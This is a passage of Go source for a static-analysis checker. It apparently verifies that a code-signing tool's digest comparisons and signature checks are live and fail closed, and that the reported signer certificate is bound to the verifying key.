		return "<nil>"
	}
	return p.Rel(fn.String())
}

// ObjName is the module-relative full name of a types.Func: "crypto/hmac.Equal",
// "(*server.Server).serveSign", "(token.Token).GetKey".
func (p *Prog) ObjName(f *types.Func) string {
	if f == nil {
		return ""
	}
	return p.Rel(f.FullName())
}

func (p *Prog) Pos(pos token.Pos) string {
	if !pos.IsValid() {
		return "-"
	}
	pp := p.Fset.Position(pos)
	fn := pp.Filename
	if strings.HasPrefix(fn, p.Dir+"/") {
		fn = fn[len(p.Dir)+1:]
	}
	return fmt.Sprintf("%s:%d", fn, pp.Line)
}

func (p *Prog) CHA() *callgraph.Graph {
	if p.cha == nil {
		p.cha = cha.CallGraph(p.SSA)
	}
	return p.cha
}

func (p *Prog) VTA() *callgraph.Graph {
	if p.vta == nil {
		p.vta = vta.CallGraph(ssautil.AllFunctions(p.SSA), p.CHA())
	}
	return p.vta
}

// FileOf returns the syntax file containing pos among module packages.
func (p *Prog) FileOf(pos token.Pos) (*packages.Package, *ast.File) {
	for _, pk := range p.Roots {
		for _, f := range pk.Syntax {
			if f.FileStart <= pos && pos <= f.FileEnd {
				return pk, f
			}
		}
	}
	return nil, nil
}
