package main

// C02 — any change to signed content or to the signature makes verification fail.

import (
	"fmt"
	"go/constant"
	"go/token"
	"go/types"
	"sort"
	"strings"

	"golang.org/x/tools/go/ssa"
)

func init() {
	register(&propDef{
		ID: "C02",
		Meta: propMeta{
			Explanation: "Decides that every registered verifier is wired to live, fail-closed integrity primitives: (R02a) liveness — every digest comparison (hmac.Equal / ConstantTimeCompare, and the tabled string / bytes comparisons of JAR, DEB, legacy timestamps) in code reachable from a verifier sits in a block that is still reachable after inter-procedural propagation of constant nil/bool arguments (a comparison that is only reachable when a parameter is non-nil, while every call site passes nil, is dead code), and each verifier reaches at least the frozen number of live comparison sites and signature primitives; (R02b) fail-closed — from the mismatch edge of each comparison no success return is reachable without crossing the match edge of a comparison in the same function, and the result is never discarded; (R02c) the only switches that may disable a comparison are the skip-digests parameters: no comparison is control-dependent on a package-level boolean or an environment variable; (R02d) signature primitives (rsa/ecdsa verify, PkixVerify, SignerInfo.Verify, SignedData.Verify, OpenPGP, rpmutils.Verify) never have their failure dropped, and a failure reaches a success return only through another primitive (fallback idiom); (R02e) the verify command validates certificate chains unless --no-trust-chain was given, and SignerInfo.Verify checks the messageDigest attribute whenever attributes are present; (R02f) a digest comparison is never made conditional on another comparison's expected value; (R02g) the certificate reported as signer is chosen only under an equality that binds it to the verifying key; (R02h) a verifier loop never skips an entry unverified unless an empty result is refused afterwards, and the JAR manifest parser stores every named section it parsed (last occurrence wins, as in the signature-file check); (R02i) the element whose digest values are compared with the files is the element the XML signature covers (Signature.Reference), not a fresh lookup; (R02j) xmldsig.Verify requires exactly one SignedInfo (or parses the reference from the very element it hashes). (R02s) in lib/fruit/csblob no call of the digest helper whose content may be a blob embedded in the signature (SigBlob.Entitlement / EntitlementDER / RawRequirements, directly or through a table entry) lies behind a nil or empty test of that content: removing a bound blob from the unsigned index is a mismatch, not a skip; (R02r) no call in verifier-reachable code makes a digest comparison of its callee unreachable by a constant boolean (a literal flag, or a boolean field of a parameter-struct literal left at its zero value); (R02o) every success return of csblob.checkPlistHashes behind the decoding of the list lies behind len(CDHashes) == len(the directories' hashes); (R02p) in cmdline/verify.verifyOne no iteration over a signature returns to the loop header without VerifyChain err==nil, other than through X509Signature == nil or NoChain. (R02n) DigestPowershell cuts the line ending in front of the signature block off the digested text only behind a HasSuffix / length test of that line (C11 R11q): a character put in place of the line ending is digested. (R02m) no return that is reached because one call's error is non-nil hands back, as the error, a different call result that was found nil on every way there (one read-and-reasoned exception: an unreachable branch of cmdline/verify.verifyOne). (R02l) DigestPowershell and VerifyPowershell compare a line read by readLine with the begin marker built by detectUtf16 through the same chain of helpers (today: none, plain equality), so the digested text ends where the verifier starts reading the signature. (R02k) no Write into a hash.Hash (directly, or through an io.Writer parameter that receives one at some call site) is given bytes that went through TrimSpace, TrimFunc, Fields or Trim/TrimRight/TrimLeft with a cutset holding a space or a tab: every byte of a digested line counts.",
			NotDecided:  "that each format's protected byte set is completely covered by what is digested, chain-building semantics of crypto/x509, grafting / appended-content cases; those need the format specifications and concrete bytes.",
			Assumptions: []string{"constant-time comparisons compare what they are given", "moduleReachAll over-approximates the call graph (interfaces and function values resolved by type)"},
		},
		Run: runC02,
	})
}

// tabled non-hmac comparison sites: function -> description of the operand that makes a
// string/bytes (in)equality a digest comparison
var c02ExtraSites = map[string]string{
	"lib/signjar.hashFile":           "base64 of hash.Sum vs manifest value (string !=)",
	"lib/signdeb.checkSig":           "hex sums of the member vs the signed Files: list (string !=)",
	"lib/pkcs9.VerifyMicrosoftToken": "bytes.Equal(content, encryptedDigest)",
	"(*lib/pkcs7.SignedData).Verify": "bytes.Equal(externalContent, content)",
}

type cmpSite struct {
	fn    *ssa.Function
	instr ssa.Instruction
	val   ssa.Value // boolean result
	equal bool      // true: val==true means "equal"; false: val==true means "differs" (string !=)
	what  string
}

// compareWrappers: module functions returning bool whose every true-capable return value
// is a constant-time comparison of values derived from their parameters (a same-package
// `digestsEqual(a, b)` helper). Calls to them are comparison sites themselves.
func (p *Prog) compareWrappers() map[*ssa.Function]bool {
	out := map[*ssa.Function]bool{}
	for _, fn := range p.Funcs {
		sig := fn.Signature
		if sig.Results().Len() != 1 || !isBool(sig.Results().At(0).Type()) || fn.Blocks == nil {
			continue
		}
		ok, any := true, false
		for _, r := range returnsOf(fn) {
			for _, lf := range phiLeaves(retVal(r, 0), nil, map[*ssa.Phi]bool{}) {
				if b, isC := boolConst(lf.V); isC && !b {
					continue
				}
				call, isCall := lf.V.(*ssa.Call)
				if !isCall {
					ok = false
					continue
				}
				switch p.calleeName(call.Common()) {
				case "crypto/hmac.Equal", "crypto/subtle.ConstantTimeCompare":
					any = true
				default:
					ok = false
				}
			}
		}
		if ok && any {
			out[fn] = true
		}
	}
	return out
}

func (p *Prog) digestCompareSites(fns map[*ssa.Function]bool) []cmpSite {
	var out []cmpSite
	wrappers := p.compareWrappers()
	var list []*ssa.Function
	for f := range fns {
		list = append(list, f)
	}
	sort.Slice(list, func(i, j int) bool { return p.FName(list[i]) < p.FName(list[j]) })
	for _, fn := range list {
		fname := p.FName(fn)
		_, extra := c02ExtraSites[fname]
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				switch x := in.(type) {
				case *ssa.Call:
					if sc := x.Common().StaticCallee(); sc != nil && wrappers[sc] {
						out = append(out, cmpSite{fn, x, x, true, "call " + p.FName(sc)})
						continue
					}
					switch p.calleeName(x.Common()) {
					case "crypto/hmac.Equal":
						out = append(out, cmpSite{fn, x, x, true, "hmac.Equal"})
					case "crypto/subtle.ConstantTimeCompare":
						out = append(out, cmpSite{fn, x, x, true, "ConstantTimeCompare"})
					case "bytes.Equal":
						if extra && (fname == "lib/pkcs9.VerifyMicrosoftToken" || fname == "(*lib/pkcs7.SignedData).Verify") {
							out = append(out, cmpSite{fn, x, x, true, "bytes.Equal"})
						}
					}
				case *ssa.BinOp:
					if !extra || (x.Op != token.NEQ && x.Op != token.EQL) {
						continue
					}
					bt, ok := x.X.Type().Underlying().(*types.Basic)
					if !ok || bt.Info()&types.IsString == 0 {
						continue
					}
					if _, isC := x.X.(*ssa.Const); isC {
						continue
					}
					if _, isC := x.Y.(*ssa.Const); isC {
						continue
					}
					isDigest := func(v ssa.Value) bool {
						return dependsOn(v, func(y ssa.Value) bool {
							if c, ok := y.(*ssa.Call); ok {
								n := p.calleeName(c.Common())
								return n == "(hash.Hash).Sum" || strings.HasSuffix(n, ".EncodeToString")
							}
							if l, ok := y.(*ssa.Lookup); ok {
								_, isMap := l.X.Type().Underlying().(*types.Map)
								_, isPar := l.X.(*ssa.Parameter)
								return isMap && isPar
							}
							return false
						})
					}
					if isDigest(x.X) || isDigest(x.Y) {
						out = append(out, cmpSite{fn, x, x, x.Op == token.EQL, "string " + x.Op.String()})
					}
				}
			}
		}
	}
	return out
}

// constArgs: for every module function, the parameters that receive the same constant
// (nil / true / false) at every call site in the module. Functions whose address is taken
// or that have no call site are not folded.
func (p *Prog) constArgs() map[*ssa.Function]map[int]ssa.Value {
	type acc struct {
		vals  map[int]ssa.Value
		dead  map[int]bool
		calls int
	}
	m := map[*ssa.Function]*acc{}
	addrTaken := map[*ssa.Function]bool{}
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				for _, op := range in.Operands(nil) {
					if op == nil || *op == nil {
						continue
					}
					if f, ok := (*op).(*ssa.Function); ok {
						if ci, isCall := in.(ssa.CallInstruction); isCall && ci.Common().Value == *op {
							continue
						}
						addrTaken[f] = true
					}
				}
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				sc := ci.Common().StaticCallee()
				if sc == nil || sc.Blocks == nil {
					continue
				}
				a := m[sc]
				if a == nil {
					a = &acc{vals: map[int]ssa.Value{}, dead: map[int]bool{}}
					m[sc] = a
				}
				a.calls++
				for i, arg := range ci.Common().Args {
					if a.dead[i] {
						continue
					}
					c, isConst := arg.(*ssa.Const)
					if !isConst {
						a.dead[i] = true
						delete(a.vals, i)
						continue
					}
					if _, isB := boolConst(c); !c.IsNil() && !isB {
						a.dead[i] = true
						delete(a.vals, i)
						continue
					}
					if old, ok := a.vals[i]; ok {
						oc := old.(*ssa.Const)
						if oc.IsNil() != c.IsNil() || (oc.Value != nil && c.Value != nil && oc.Value.String() != c.Value.String()) {
							a.dead[i] = true
							delete(a.vals, i)
						}
						continue
					}
					a.vals[i] = c
				}
			}
		}
	}
	out := map[*ssa.Function]map[int]ssa.Value{}
	for f, a := range m {
		if addrTaken[f] || a.calls == 0 || len(a.vals) == 0 {
			continue
		}
		// exported functions and methods may have callers outside the module; relic is an
		// application (package main at the root), so module-wide call sites are all there are
		out[f] = a.vals
	}
	return out
}

// deadEdgesFromConsts: If edges of fn that cannot be taken given the constant parameters.
func deadEdgesFromConsts(fn *ssa.Function, consts map[int]ssa.Value) map[edge]bool {
	del := map[edge]bool{}
	if len(consts) == 0 {
		return del
	}
	parConst := map[ssa.Value]*ssa.Const{}
	for i, v := range consts {
		if i < len(fn.Params) {
			parConst[fn.Params[i]] = v.(*ssa.Const)
		}
	}
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		for si, truth := range []bool{true, false} {
			for _, f := range factsOf(ifi.Cond, truth) {
				c, ok := parConst[f.V]
				if !ok {
					continue
				}
				infeasible := false
				switch f.Kind {
				case NonNil:
					infeasible = c.IsNil()
				case IsNil:
					infeasible = !c.IsNil()
				case IsTrue:
					if bv, ok := boolConst(c); ok {
						infeasible = !bv
					}
				case IsFalse:
					if bv, ok := boolConst(c); ok {
						infeasible = bv
					}
				}
				if infeasible {
					del[edge{b.Index, si}] = true
				}
			}
		}
	}
	return del
}

func runC02(c *Ctx) {
	p := c.P
	c.Rule("R02a", "digest comparisons reachable from verifiers are live (not dead under constant nil/bool arguments); each verifier reaches its frozen minimum of live comparisons / signature primitives", 30)
	c.Rule("R02b", "from the mismatch edge of a digest comparison no success return is reachable without a matching comparison; results are never discarded", 25)
	c.Rule("R02c", "no digest comparison is control-dependent on a package-level boolean or the environment", 25)
	c.Rule("R02d", "signature primitive failures are never dropped and reach success only through another primitive", 10)
	c.Rule("R02e", "chain validation unless NoChain; messageDigest checked whenever attributes are present", 3)

	ver := map[*ssa.Function]string{}
	for f, n := range p.registeredSignerFuncs("Verify") {
		ver[f] = n
	}
	for f, n := range p.registeredSignerFuncs("VerifyStream") {
		ver[f] = n
	}
	if len(ver) < 15 {
		c.Undecided("R02a", "verifier registry", "-", fmt.Sprintf("only %d verifier functions resolved from the signer registry", len(ver)))
		return
	}
	var roots []*ssa.Function
	for f := range ver {
		roots = append(roots, f)
	}
	all := p.moduleReachAll(roots)
	sites := p.digestCompareSites(all)
	consts := p.constArgs()

	live := map[ssa.Instruction]bool{}
	nPerFn := map[string]int{}
	for _, s := range sites {
		fname := p.FName(s.fn)
		nPerFn[fname]++
		key := fmt.Sprintf("%s %s#%d", fname, s.what, nPerFn[fname])
		c.Analysed(fname)
		// ---- R02a liveness
		del := deadEdgesFromConsts(s.fn, consts[s.fn])
		pred := map[int]int{}
		alive := reach(s.fn, []*ssa.BasicBlock{s.fn.Blocks[0]}, del, pred)[s.instr.Block().Index]
		live[s.instr] = alive
		if alive {
			c.Pass("R02a", key+" live", p.Pos(s.instr.Pos()), "reachable under the arguments the module passes")
		} else {
			var why []string
			for i, v := range consts[s.fn] {
				if i < len(s.fn.Params) {
					why = append(why, fmt.Sprintf("%s=%s at every call site", s.fn.Params[i].Name(), v.Name()))
				}
			}
			sort.Strings(why)
			c.Fail("R02a", key+" live", p.Pos(s.instr.Pos()), fmt.Sprintf("this digest comparison is dead code: %v, so the branch that contains it can never run and the digest is never checked", why))
		}
		// ---- R02b fail-closed
		c02FailClosed(c, s, key, sites)
		// ---- R02c
		c02Switches(c, s, key)
	}
	c02ConstantSwitchOff(c, all, sites)
	c.Check(len(sites) >= 25, "R02a", "digest comparison sites", "-", fmt.Sprintf("%d sites in %d verifier-reachable functions", len(sites), len(all)), fmt.Sprintf("only %d digest comparison sites found in verifier-reachable code (27 confirmed by reading)", len(sites)))

	// per-verifier minimum of live comparison sites (A) and signature primitives (B)
	type need struct{ a, b int }
	// frozen on 2026-10-03 from this tree after reading every site; counts include the three
	// comparisons shared by all PKCS#7-based verifiers (messageDigest attribute, RFC 3161
	// imprint, legacy timestamp content) and, where present, the detached-content comparison
	frozen := map[string]need{
		"pe-coff": {6, 5}, "msi": {5, 5}, "cab": {4, 5}, "ps": {4, 5}, "xap": {4, 5}, "jar": {4, 5}, "apk": {5, 8},
		"appx": {7, 5}, "vsix": {4, 5}, "appmanifest": {5, 5}, "mach-o": {8, 5}, "mach-o-fat": {8, 5}, "ipa": {8, 5}, "dmg": {8, 5}, "xar": {5, 5},
		"deb": {1, 1}, "rpm": {0, 1}, "pgp": {0, 2}, "pkcs7": {3, 5},
	}
	sigPrims := map[string]bool{"crypto/rsa.VerifyPKCS1v15": true, "crypto/rsa.VerifyPSS": true, "crypto/ecdsa.Verify": true,
		"(*github.com/ProtonMail/go-crypto/openpgp/packet.PublicKey).VerifySignature": true, "github.com/ProtonMail/go-crypto/openpgp.ReadMessage": true,
		"github.com/sassoftware/go-rpmutils.Verify": true, "(*crypto/x509.Certificate).CheckSignature": true}
	byName := map[string][]*ssa.Function{}
	for f, n := range ver {
		byName[n] = append(byName[n], f)
	}
	names := sortedKeys(byName)
	for _, n := range names {
		set := p.moduleReachAll(byName[n])
		a, b := 0, 0
		for _, s := range sites {
			if set[s.fn] && live[s.instr] {
				a++
			}
		}
		for f := range set {
			for _, blk := range f.Blocks {
				for _, in := range blk.Instrs {
					if ci, ok := in.(ssa.CallInstruction); ok && sigPrims[p.calleeName(ci.Common())] {
						b++
					}
				}
			}
		}
		want, known := frozen[n]
		key := "verifier " + n
		c.Note("verifier %s: %d live digest comparisons, %d signature primitive sites", n, a, b)
		if !known {
			c.Undecided("R02a", key, "-", fmt.Sprintf("verifier %q is not in the frozen table (reaches %d live comparisons, %d signature primitives): add it after reading", n, a, b))
			continue
		}
		c.Check(a >= want.a && b >= want.b, "R02a", key, p.Pos(byName[n][0].Pos()), fmt.Sprintf("%d live digest comparisons (>=%d), %d signature primitive sites (>=%d)", a, want.a, b, want.b),
			fmt.Sprintf("verifier reaches %d live digest comparisons (needs %d) and %d signature primitive sites (needs %d): an integrity check was removed, bypassed or made dead", a, want.a, b, want.b))
	}

	c02Primitives(c, all)
	c02Misc(c)
	c02SkipArgs(c)
	c02Independence(c, sites)
	c02SignerBinding(c)
	c02LoopSkips(c, all)
	c02VerifiedObject(c)
	c02SignedInfoUnique(c)
}

// c02Independence (R02f): within one function, a digest comparison must not be skipped
// depending on the presence/shape of ANOTHER comparison's operands ("page hashes are a
// superset, so skip the image hash"): every protected digest is checked on its own.
func c02Independence(c *Ctx, sites []cmpSite) {
	p := c.P
	c.Rule("R02f", "a digest comparison is never made conditional on another comparison's expected value", 3)
	byFn := map[*ssa.Function][]cmpSite{}
	for _, s := range sites {
		byFn[s.fn] = append(byFn[s.fn], s)
	}
	operands := func(s cmpSite) []ssa.Value {
		switch x := s.instr.(type) {
		case *ssa.Call:
			return x.Call.Args
		case *ssa.BinOp:
			return []ssa.Value{x.X, x.Y}
		}
		return nil
	}
	// the operand values themselves (and what a merged operand was merged from): a
	// condition "about another comparison's expected value" mentions exactly these
	// A value merged into an operand that is merged into an unrelated variable as well (one
	// buffer read per loop iteration and assigned to one of two variables by name) says nothing
	// about this operand in a condition on that other variable: it is not a root.
	roots := func(s cmpSite) map[ssa.Value]bool {
		out := map[ssa.Value]bool{}
		for _, o := range operands(s) {
			phis := map[*ssa.Phi]bool{}
			for _, lf := range phiLeaves(o, nil, phis) {
				if _, isConst := lf.V.(*ssa.Const); isConst {
					continue
				}
				shared := false
				if lf.V != o && lf.V.Referrers() != nil {
					for _, r := range *lf.V.Referrers() {
						if ph, ok := r.(*ssa.Phi); ok && !phis[ph] {
							shared = true
						}
					}
				}
				if shared {
					continue
				}
				out[lf.V] = true
				out[stripConv(lf.V)] = true
			}
			out[o] = true
		}
		return out
	}
	n := 0
	var fns []*ssa.Function
	for f := range byFn {
		fns = append(fns, f)
	}
	sort.Slice(fns, func(i, j int) bool { return p.FName(fns[i]) < p.FName(fns[j]) })
	for _, fn := range fns {
		ss := byFn[fn]
		if len(ss) < 2 {
			continue
		}
		for i, s := range ss {
			own := roots(s)
			others := map[ssa.Value]bool{}
			for j, o := range ss {
				if j == i {
					continue
				}
				for v := range roots(o) {
					if !own[v] {
						others[v] = true
					}
				}
			}
			n++
			key := fmt.Sprintf("%s %s#%d independent", p.FName(fn), s.what, i+1)
			var bad []string
			for _, b := range fn.Blocks {
				ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
				if !ok || b == s.instr.Block() {
					continue
				}
				dep := false
				for si := range b.Succs {
					if !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, map[edge]bool{{b.Index, si}: true}, nil)[s.instr.Block().Index] {
						dep = true
					}
				}
				if !dep {
					continue
				}
				// the condition is the other comparison's own outcome (sequential checks): fine
				isOtherOutcome := false
				for j, o := range ss {
					if j != i && dependsOn(ifi.Cond, func(x ssa.Value) bool { return x == o.val }) {
						isOtherOutcome = true
					}
				}
				if isOtherOutcome {
					continue
				}
				usesOther := condMentions(ifi.Cond, others)
				usesOwn := condMentions(ifi.Cond, own)
				if usesOther && !usesOwn {
					bad = append(bad, p.Pos(ifi.Pos())+" "+short(ifi.Cond.String(), 60)+" in "+b.String())
				}
			}
			c.Check(len(bad) == 0, "R02f", key, p.Pos(s.instr.Pos()), "guarded only by its own operands / flags", fmt.Sprintf("this digest comparison is skipped depending on another comparison's expected value (condition at %v): content protected only by this digest can be altered undetected", bad))
		}
	}
	c.Check(n >= 3, "R02f", "functions with several comparisons", "-", fmt.Sprintf("%d sites", n), "no function with more than one digest comparison found")
}

// condMentions: does the condition talk about one of the values directly — through
// comparisons, negation, merges, conversions and len()/cap() only (not through calls:
// an error check of a call that happened to take the value as an argument is not a
// condition about that value)?
func condMentions(cond ssa.Value, set map[ssa.Value]bool) bool {
	seen := map[ssa.Value]bool{}
	var walk func(v ssa.Value, d int) bool
	walk = func(v ssa.Value, d int) bool {
		if v == nil || seen[v] || d > 12 {
			return false
		}
		seen[v] = true
		if set[v] {
			return true
		}
		switch x := v.(type) {
		case *ssa.BinOp:
			return walk(x.X, d+1) || walk(x.Y, d+1)
		case *ssa.UnOp:
			if x.Op == token.NOT || x.Op == token.SUB {
				return walk(x.X, d+1)
			}
		case *ssa.Phi:
			for _, e := range x.Edges {
				if walk(e, d+1) {
					return true
				}
			}
		case *ssa.Convert:
			return walk(x.X, d+1)
		case *ssa.ChangeType:
			return walk(x.X, d+1)
		case *ssa.Call:
			if bi, ok := x.Call.Value.(*ssa.Builtin); ok && (bi.Name() == "len" || bi.Name() == "cap") {
				return walk(x.Call.Args[0], d+1)
			}
		}
		return false
	}
	return walk(cond, 0)
}

// c02SignerBinding (R02g): the certificate reported as the signer is selected only under
// an equality that binds it to the key / identifier that verified the signature.
func c02SignerBinding(c *Ctx) {
	p := c.P
	c.Rule("R02g", "the certificate reported as signer is chosen only under an equality binding it to the verifying key / signer identifier", 3)
	// xmldsig.Signature.Leaf
	if fn := p.Func("lib/xmldsig.(Signature).Leaf"); fn == nil {
		c.Undecided("R02g", "xmldsig.Signature.Leaf", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		same := isSameKeyGuard(p, nil)
		n := 0
		for _, r := range returnsOf(fn) {
			if isNilConst(retVal(r, 0)) {
				continue
			}
			n++
			missing, path := p.unguardedFromEntry(fn, r, same)
			c.Check(len(missing) == 0, "R02g", fmt.Sprintf("%s non-nil return#%d", p.FName(fn), n), p.Pos(r.Pos()), "a certificate is reported as leaf only if SameKey(cert.PublicKey, verifying key)", "a certificate that does not carry the key that verified the signature can be reported as the signer (identity spoofing with a pasted certificate)", path...)
		}
		c.Check(n > 0, "R02g", p.FName(fn)+" returns a leaf", p.Pos(fn.Pos()), "", "Leaf never returns a certificate")
	}
	// pkcs7 FindCertificate
	if fn := p.Func("lib/pkcs7.(*SignerInfo).FindCertificate"); fn == nil {
		c.Undecided("R02g", "(*SignerInfo).FindCertificate", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		iss := p.callGuard("issuer equal", []string{"bytes.Equal"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
			a, b := ci.Common().Args[0], ci.Common().Args[1]
			f := func(v ssa.Value, name string) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					_, fl, _ := p.fieldLoad(x)
					_, fl2, _ := p.fieldAddr(x)
					return fl == name || fl2 == name
				})
			}
			return (f(a, "RawIssuer") && f(b, "IssuerName")) || (f(b, "RawIssuer") && f(a, "IssuerName"))
		})
		ser := Guard{Name: "serial equal", Match: func(f Fact) bool {
			bo, ok := f.V.(*ssa.BinOp)
			if !ok || !isIntConst(bo.Y, 0) || !((bo.Op == token.EQL && f.Kind == IsTrue) || (bo.Op == token.NEQ && f.Kind == IsFalse)) {
				return false
			}
			call, ok := bo.X.(*ssa.Call)
			return ok && p.calleeName(call.Common()) == "(*math/big.Int).Cmp"
		}}
		n := 0
		for _, r := range p.successReturns(fn) {
			n++
			missing, path := p.unguardedFromEntry(fn, r, iss, ser)
			if pred := searchPredicate(retVal(r, 0)); len(missing) > 0 && pred != nil {
				// certs[slices.IndexFunc(certs, pred)]: the equalities are what makes pred true
				missing, path = nil, nil
				for _, pr := range returnsOf(pred) {
					m, _ := p.trueReturnMissing(pred, pr, 0, iss, ser)
					missing = append(missing, m...)
				}
			}
			c.Check(len(missing) == 0, "R02g", fmt.Sprintf("%s success-return#%d", p.FName(fn), n), p.Pos(r.Pos()), "signer certificate matched by issuer and serial", fmt.Sprintf("a certificate is selected as signer without %v", missing), path...)
		}
	}
	// APK v2: leaf is the certificate whose SubjectPublicKeyInfo equals the verifying key
	if fn := p.Func("signers/apk.(*apkSigner).Verify"); fn == nil {
		c.Undecided("R02g", "(*apkSigner).Verify", "-", "function not found")
	} else {
		c.Analysed(p.FName(fn))
		eq := p.callGuard("SPKI equal", []string{"bytes.Equal"}, -1, IsTrue, func(ci ssa.CallInstruction) bool {
			a, b := ci.Common().Args[0], ci.Common().Args[1]
			f := func(v ssa.Value, name string) bool {
				return dependsOn(v, func(x ssa.Value) bool {
					_, fl, _ := p.fieldLoad(x)
					_, fl2, _ := p.fieldAddr(x)
					return fl == name || fl2 == name
				})
			}
			return (f(a, "RawSubjectPublicKeyInfo") && f(b, "PublicKey")) || (f(b, "RawSubjectPublicKeyInfo") && f(a, "PublicKey"))
		})
		ok := false
		// the value stored as Certificate / leaf in the returned signature comes from a phi whose
		// non-nil leaves are range values guarded by eq
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ph, isPhi := in.(*ssa.Phi)
				if !isPhi || typeName(p, ph.Type()) != "*crypto/x509.Certificate" {
					continue
				}
				all := true
				any := false
				for _, lf := range phiLeaves(ph, nil, map[*ssa.Phi]bool{}) {
					if isNilConst(lf.V) {
						continue
					}
					any = true
					if leafUnguarded(fn, lf, eq) {
						all = false
					}
				}
				if any && all {
					ok = true
				}
				if any && !all {
					ok = false
				}
			}
		}
		c.Check(ok, "R02g", p.FName(fn)+" leaf bound to the verifying key", p.Pos(fn.Pos()), "leaf = certificate whose SubjectPublicKeyInfo equals the signer block's public key", "the APK signer certificate is not selected by equality with the key that verified the signature")
	}
}

// c02SkipArgs (R02c, inter-procedural part): the argument bound to a `skipDigests`-style
// parameter is the caller's own such parameter, VerifyOpts.NoDigests, or the constant false.
func c02SkipArgs(c *Ctx) {
	p := c.P
	isSkipName := func(n string) bool {
		n = strings.ToLower(n)
		return n == "skipdigests" || n == "nodigests" || n == "skipdigest"
	}
	n := 0
	for _, fn := range p.Funcs {
		for _, b := range fn.Blocks {
			for _, in := range b.Instrs {
				ci, ok := in.(ssa.CallInstruction)
				if !ok {
					continue
				}
				sc := ci.Common().StaticCallee()
				if sc == nil || sc.Blocks == nil || !p.InModule(pkgOf(sc)) {
					continue
				}
				for i, par := range sc.Params {
					if !isBool(par.Type()) || !isSkipName(par.Name()) || i >= len(ci.Common().Args) {
						continue
					}
					n++
					arg := ci.Common().Args[i]
					key := fmt.Sprintf("%s -> %s(%s)#%d", p.FName(fn), p.FName(sc), par.Name(), n)
					okArg := false
					why := ""
					if bv, isC := boolConst(arg); isC {
						okArg = !bv
						why = "constant true"
					} else if ap, isPar := arg.(*ssa.Parameter); isPar && isSkipName(ap.Name()) {
						okArg = true
					} else if t, f, _ := p.fieldLoad(arg); t == "signers.VerifyOpts" && f == "NoDigests" {
						okArg = true
					} else {
						why = short(arg.String(), 50)
					}
					c.Check(okArg, "R02c", key, p.Pos(ci.Pos()), "skip flag comes from NoDigests / the caller's own skip parameter / false", "digest checking of the callee is switched by "+why+", not by the NoDigests option alone")
				}
			}
		}
	}
	c.Check(n >= 8, "R02c", "skip-digests call sites", "-", fmt.Sprintf("%d", n), fmt.Sprintf("only %d call sites with a skip-digests parameter found", n))
}

func c02FailClosed(c *Ctx, s cmpSite, key string, all []cmpSite) {
	p := c.P
	fn := s.fn
	// the value must feed a branch (possibly through a returned bool in a helper)
	used := valueIsUsed(s.val, map[ssa.Value]bool{})
	if !used {
		c.Fail("R02b", key+" consumed", p.Pos(s.instr.Pos()), "the result of the digest comparison is discarded")
		return
	}
	mismatchKind, matchKind := IsFalse, IsTrue
	if !s.equal {
		mismatchKind, matchKind = IsTrue, IsFalse
	}
	mis := passEdges(fn, Guard{Match: func(f Fact) bool { return f.V == s.val && f.Kind == mismatchKind }})
	if len(mis) == 0 {
		// returned directly (`return hmac.Equal(a,b)`) or stored: a bool helper — its callers decide
		direct := false
		for _, r := range *s.val.Referrers() {
			if _, ok := r.(*ssa.Return); ok {
				direct = true
			}
		}
		if direct {
			c.PassTrivial("R02b", key+" fail-closed", p.Pos(s.instr.Pos()), "comparison result returned to the caller")
		} else {
			c.Undecided("R02b", key+" fail-closed", p.Pos(s.instr.Pos()), "comparison result is not tested by a branch in this function (unrecognised idiom)")
		}
		return
	}
	// match edges of every comparison in this function
	del := map[edge]bool{}
	for _, o := range all {
		if o.fn != fn {
			continue
		}
		ok := matchKind
		if o.equal != s.equal {
			if o.equal {
				ok = IsTrue
			} else {
				ok = IsFalse
			}
		}
		ov := o.val
		for e := range passEdges(fn, Guard{Match: func(f Fact) bool { return f.V == ov && f.Kind == ok }}) {
			del[e] = true
		}
	}
	var starts []*ssa.BasicBlock
	for e := range mis {
		starts = append(starts, fn.Blocks[e.from].Succs[e.succ])
	}
	pred := map[int]int{}
	seen := reach(fn, starts, del, pred)
	bad := false
	var path []string
	var where string
	if errResultIndex(fn.Signature) >= 0 {
		for _, r := range p.successReturns(fn) {
			if seen[r.Block().Index] {
				bad = true
				path = p.witness(fn, pred, r.Block().Index)
				where = p.Pos(r.Pos())
			}
		}
	} else {
		// bool helper: mismatch must not reach `return true`
		for _, r := range returnsOf(fn) {
			if len(r.Results) == 0 {
				continue
			}
			if b, ok := boolConst(retVal(r, len(r.Results)-1)); ok && b && seen[r.Block().Index] {
				bad = true
				where = p.Pos(r.Pos())
			}
		}
	}
	c.Check(!bad, "R02b", key+" fail-closed", p.Pos(s.instr.Pos()), "a mismatch can only end in an error", "a digest mismatch can end in a success return at "+where+": tampered content verifies", path...)
}

func c02Switches(c *Ctx, s cmpSite, key string) {
	p := c.P
	fn := s.fn
	var bad []string
	for _, b := range fn.Blocks {
		ifi, ok := b.Instrs[len(b.Instrs)-1].(*ssa.If)
		if !ok {
			continue
		}
		// is the site control-dependent on this If? (deleting one edge makes it unreachable)
		dep := false
		for si := range b.Succs {
			if !reach(fn, []*ssa.BasicBlock{fn.Blocks[0]}, map[edge]bool{{b.Index, si}: true}, nil)[s.instr.Block().Index] {
				dep = true
			}
		}
		if !dep {
			continue
		}
		cond := ifi.Cond
		for {
			if u, ok := cond.(*ssa.UnOp); ok && u.Op == token.NOT {
				cond = u.X
				continue
			}
			break
		}
		// package-level boolean
		if l, ok := cond.(*ssa.UnOp); ok && l.Op == token.MUL {
			if g, ok := l.X.(*ssa.Global); ok && isBool(l.Type()) {
				bad = append(bad, "package variable "+g.Name())
			}
		}
		if dependsOn(cond, func(x ssa.Value) bool {
			call, ok := x.(*ssa.Call)
			if !ok {
				return false
			}
			n := p.calleeName(call.Common())
			return n == "os.Getenv" || n == "os.LookupEnv"
		}) {
